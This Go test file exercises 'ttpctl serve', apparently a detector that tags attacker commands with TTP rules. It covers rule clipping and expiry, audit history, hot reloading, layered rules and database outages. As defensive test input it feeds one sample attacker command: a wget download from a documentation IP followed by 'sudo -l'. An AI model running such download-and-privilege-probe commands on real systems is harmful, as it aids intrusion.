package main

import (
	"bufio"
	"database/sql"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"ttpctl/rules"
)

// A servant is a `ttpctl serve` of its own process, fed through a pipe.
type servant struct {
	t      *testing.T
	cmd    *exec.Cmd
	env    []string
	stdin  io.WriteCloser
	stderr sharedText
	done   chan struct{} // stdout has ended

	mu   sync.Mutex
	tags map[string]map[string]float64 // source_id -> rule_id -> confidence
	fed  int
}

// sharedText is text that one goroutine writes and another reads.
type sharedText struct {
	mu sync.Mutex
	b  strings.Builder
}

func (s *sharedText) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *sharedText) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// startServe runs serve with its database in a directory of its own.
func startServe(t *testing.T, args ...string) *servant {
	t.Helper()
	state := t.TempDir()
	g := &servant{t: t, done: make(chan struct{}), tags: map[string]map[string]float64{},
		env: append(os.Environ(), "XDG_STATE_HOME="+state, "XDG_CONFIG_HOME="+state)}
	g.cmd = exec.Command("ttpctl", append([]string{"serve"}, args...)...)
	g.cmd.Env, g.cmd.Stderr = g.env, &g.stderr
	stdout, err := g.cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if g.stdin, err = g.cmd.StdinPipe(); err != nil {
		t.Fatal(err)
	}
	if err := g.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("serve %v (ended by itself: %v) said:\n%s", args, g.ended(), g.stderr.String())
		}
		g.cmd.Process.Kill()
	})
	go g.read(stdout)
	return g
}

// ended reports whether serve has ended by itself.
func (g *servant) ended() bool {
	select {
	case <-g.done:
		return true
	default:
		return false
	}
}

func (g *servant) read(stdout io.Reader) {
	defer close(g.done)
	lines := bufio.NewScanner(stdout)
	for lines.Scan() {
		var tag struct {
			SourceID   string  `json:"source_id"`
			RuleID     string  `json:"rule_id"`
			Confidence float64 `json:"confidence"`
		}
		if err := json.Unmarshal(lines.Bytes(), &tag); err != nil {
			g.t.Errorf("serve prints %q: %v", lines.Text(), err)
		}
		g.mu.Lock()
		if g.tags[tag.SourceID] == nil {
			g.tags[tag.SourceID] = map[string]float64{}
		}
		g.tags[tag.SourceID][tag.RuleID] = tag.Confidence
		g.mu.Unlock()
	}
}

// feed gives serve a download (R0012) and a use of sudo (R0029) in one event
// and returns the confidences that the rules gave it, once R0029's is there.
func (g *servant) feed() map[string]float64 {
	g.t.Helper()
	g.fed++
	id := fmt.Sprintf("e%d", g.fed)
	fmt.Fprintf(g.stdin, `{"source_kind":"command","source_id":%q,"attacker_ip":"203.0.113.9","payload":{"command_text":"wget http://192.0.2.7/x; sudo -l"}}`+"\n", id)
	var tags map[string]float64
	poll(g.t, "the tags of "+id, func() bool {
		g.mu.Lock()
		defer g.mu.Unlock()
		tags = g.tags[id]
		return tags["R0029"] > 0
	})
	return tags
}

// feedUntil feeds events until rule gives want, and returns how long that took.
func (g *servant) feedUntil(rule string, want float64) time.Duration {
	g.t.Helper()
	begin := time.Now()
	poll(g.t, fmt.Sprintf("%s at %v", rule, want), func() bool { return g.feed()[rule] == want })
	return time.Since(begin)
}

// run runs ttpctl in another process and returns what it prints.
func (g *servant) run(args ...string) string {
	g.t.Helper()
	cmd := exec.Command("ttpctl", args...)
	cmd.Env = g.env
	out, err := cmd.CombinedOutput()
	if err != nil {
		g.t.Errorf("ttpctl %v: %v\n%s", args, err, out)
	}
	return string(out)
}

// stop ends serve by signal, which must drain and exit 0.
func (g *servant) stop() {
	g.t.Helper()
	if err := g.cmd.Process.Signal(syscall.SIGTERM); err != nil {
		g.t.Fatal(err)
	}
	<-g.done
	if err := g.cmd.Wait(); err != nil {
		g.t.Errorf("serve after SIGTERM: %v, want exit 0; stderr:\n%s", err, g.stderr.String())
	}
}

func poll(t *testing.T, what string, ok func() bool) {
	t.Helper()
	deadline := time.After(5 * time.Minute)
	tick := time.NewTicker(5 * time.Millisecond)
	defer tick.Stop()
	for !ok() {
		select {
		case <-tick.C:
		case <-deadline:
			t.Fatalf("waited five minutes in vain: %s", what)
		}
	}
}

// TestThreeInTheMorning: a rule floods the SIEM. It is clipped from another
// process, the running tagger follows, nothing is lost, after a while the rule
// is itself again, and next week someone can see who did it and why.
func TestThreeInTheMorning(t *testing.T) {
	t.Parallel()
	const (
		full   = 0.85 // R0012's confidence
		ttl    = 3 * time.Second
		follow = 2 * time.Second // promised is 1 s, on a machine that has time
	)
	g := startServe(t)
	if got := g.feed()["R0012"]; got != full {
		t.Fatalf("R0012 gives %v, want %v", got, full)
	}
	begin := time.Now()
	said := g.run("rule", "clip", "R0012", "--max", "0.5", "--ttl", ttl.String(), "--reason", "vendor scan", "--by", "alice")
	clipped := time.Now()
	if !strings.HasPrefix(said, "R0012 clipped to at most 0.5 until ") || !strings.Contains(said, "followed within 1 s by serve, pid ") {
		t.Errorf("rule clip says %q", said)
	}
	took := g.feedUntil("R0012", 0.5)
	t.Logf("clipped after %v", took)
	if took > follow {
		t.Errorf("the running tagger followed after %v, want at most %v", took, follow)
	}
	g.feedUntil("R0012", full)
	t.Logf("reverted %v after the clip", time.Since(clipped))
	if time.Since(begin) < ttl || time.Since(clipped) > ttl+follow {
		t.Errorf("reverted %v after the clip began and %v after it was done, want %v", time.Since(begin), time.Since(clipped), ttl)
	}

	history := g.run("rule", "history", "R0012", "-o", "csv")
	lines := strings.Split(strings.TrimSpace(history), "\n")
	if len(lines) != 3 || !strings.Contains(lines[1], "R0012,enabled,,,expiry,") || !strings.Contains(lines[1], "vendor scan") ||
		!strings.Contains(lines[2], "R0012,clipped,0.5,") || !strings.HasSuffix(lines[2], ",alice,vendor scan,1") {
		t.Errorf("the history is\n%s\nwant the clip by alice and the revert by expiry", history)
	}
	g.stop()
	if n := countTags(g.run("report", "rule", "R0029", "-o", "json")); n != g.fed {
		t.Errorf("%d events were fed, the database has tags of %d", g.fed, n)
	}
	if got := g.stderr.String(); strings.Contains(got, "rejected") {
		t.Errorf("serve rejected lines:\n%s", got)
	}
}

// countTags returns the tags that a report's JSON sums up.
func countTags(report string) int {
	var e struct {
		Data []struct {
			Tags int `json:"tags"`
		} `json:"data"`
	}
	if err := json.Unmarshal([]byte(report), &e); err != nil {
		return -1
	}
	n := 0
	for _, d := range e.Data {
		n += d.Tags
	}
	return n
}

// TestServeFollowsDirectory edits the rules of a running tagger: a change, a
// broken save, a deletion, as files and through the database.
func TestServeFollowsDirectory(t *testing.T) {
	t.Parallel()
	for _, where := range []string{"filesystem", "database"} {
		t.Run(where, func(t *testing.T) {
			dir := someRules(t, "R0012", "R0018", "R0029")
			g := startServe(t, "--rules", dir, "--store", where)
			g.feed()
			file := filepath.Join(dir, "R0012.yaml")
			text, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			save := func(text string) {
				if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			changed := strings.Replace(string(text), "confidence: 0.85", "confidence: 0.81", 1)
			save(changed)
			g.feedUntil("R0012", 0.81)
			save(strings.Replace(changed, "tactic:", "tactics:", 1))
			poll(t, "the broken save in the log", func() bool { return strings.Contains(g.stderr.String(), "tactics") })
			if got := g.feed()["R0012"]; got != 0.81 {
				t.Errorf("after a broken save R0012 gives %v, want 0.81 of its last good version", got)
			}
			g.run("rule", "show", "R0012") // it is recorded as in force
			if err := os.Remove(file); err != nil {
				t.Fatal(err)
			}
			g.feedUntil("R0012", 0)
			poll(t, "R0012 out of force in another process", func() bool { return !slices.Contains(strings.Fields(g.run("rule", "list")), "R0012") })
			g.stop()
			if got := g.stderr.String(); !strings.Contains(got, "rule removed") {
				t.Errorf("the log of serve does not tell of the removed rule:\n%s", got)
			}
		})
	}
}

// someRules returns a directory with rules of the pack.
func someRules(t *testing.T, ids ...string) string {
	t.Helper()
	dir := t.TempDir()
	for _, id := range ids {
		if err := os.WriteFile(filepath.Join(dir, id+".yaml"), rules.Text(id+".yaml"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// TestServeFollowsLayers puts a rule into the upper layer of a running tagger and
// takes it out: the lower layer's comes back. A link that leaves is no rule.
func TestServeFollowsLayers(t *testing.T) {
	t.Parallel()
	for _, where := range []string{"filesystem", "database"} {
		t.Run(where, func(t *testing.T) {
			pack := rules.Text("R0012.yaml")
			mine, outside := t.TempDir(), filepath.Join(t.TempDir(), "R0029.yaml")
			write := func(path, text string) {
				if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			above := strings.Replace(string(pack), "confidence: 0.85", "confidence: 0.81", 1)
			write(filepath.Join(mine, "R0012.yaml"), above)
			g := startServe(t, "--rules", "pack", "--rules", mine, "--store", where)
			if got := g.feed()["R0012"]; got != 0.81 {
				t.Errorf("R0012 of the upper layer gives %v, want 0.81", got)
			}
			write(outside, "rule_id: hunter2\n")
			if err := os.Symlink(outside, filepath.Join(mine, "R0029.yaml")); err != nil {
				t.Fatal(err)
			}
			poll(t, "the link in the log", func() bool { return strings.Contains(g.stderr.String(), "a link that leaves") })
			if err := os.Remove(filepath.Join(mine, "R0012.yaml")); err != nil {
				t.Fatal(err)
			}
			g.feedUntil("R0012", 0.85)
			write(filepath.Join(mine, "R0012.yaml"), above)
			g.feedUntil("R0012", 0.81)
			g.stop()
			if got := g.stderr.String(); strings.Contains(got, "hunter2") {
				t.Errorf("the log quotes what a link leads to:\n%s", got)
			}
		})
	}
}

// TestServeStoppedBeforeItBegan: a serve that waits for its database has nothing
// to finish when it is told to stop, and exits 0.
func TestServeStoppedBeforeItBegan(t *testing.T) {
	t.Parallel()
	g := startServe(t, "--db", "postgres://postgres@127.0.0.1:1/nobody")
	poll(t, "serve waits", func() bool { return strings.Contains(g.stderr.String(), "the input waits") })
	g.stop()
}

// TestServeWhileTheDatabaseIsAway: the database is locked when serve starts, and
// later renamed; input waits each time, and nothing of it is lost.
func TestServeWhileTheDatabaseIsAway(t *testing.T) {
	t.Parallel()
	path := filepath.Join(t.TempDir(), "ttpctl.db")
	if out, err := exec.Command("ttpctl", "--db", path, "rule", "disable", "R0012", "--reason", "x").CombinedOutput(); err != nil {
		t.Fatalf("rule disable: %v\n%s", err, out)
	}
	holder, err := sql.Open("sqlite", "file:"+path+"?_txlock=immediate")
	if err != nil {
		t.Fatal(err)
	}
	defer holder.Close()
	tx, err := holder.Begin()
	if err != nil {
		t.Fatal(err)
	}
	g := startServe(t, "--db", path)
	fed := make(chan map[string]float64, 1)
	go func() { fed <- g.feed() }()
	poll(t, "serve waits", func() bool { return strings.Contains(g.stderr.String(), "the input waits") })
	if err := tx.Rollback(); err != nil {
		t.Fatal(err)
	}
	if got := <-fed; got["R0012"] != 0 || got["R0029"] == 0 {
		t.Errorf("after the lock the tags are %v, want R0029 and not R0012, which is disabled", got)
	}
	if err := os.Rename(path, path+".moved"); err != nil {
		t.Fatal(err)
	}
	go func() { fed <- g.feed() }()
	poll(t, "serve waits again", func() bool {
		return strings.Contains(g.stderr.String(), "there is no file of that name any more") && strings.Contains(g.stderr.String(), "tags cannot be stored")
	})
	if err := os.Rename(path+".moved", path); err != nil {
		t.Fatal(err)
	}
	<-fed
	g.stop()
	if n := countTags(g.run("report", "--db", path, "rule", "R0029", "-o", "json")); n != g.fed {
		t.Errorf("%d events were fed, the database has tags of %d; stderr:\n%s", g.fed, n, g.stderr.String())
	}
}
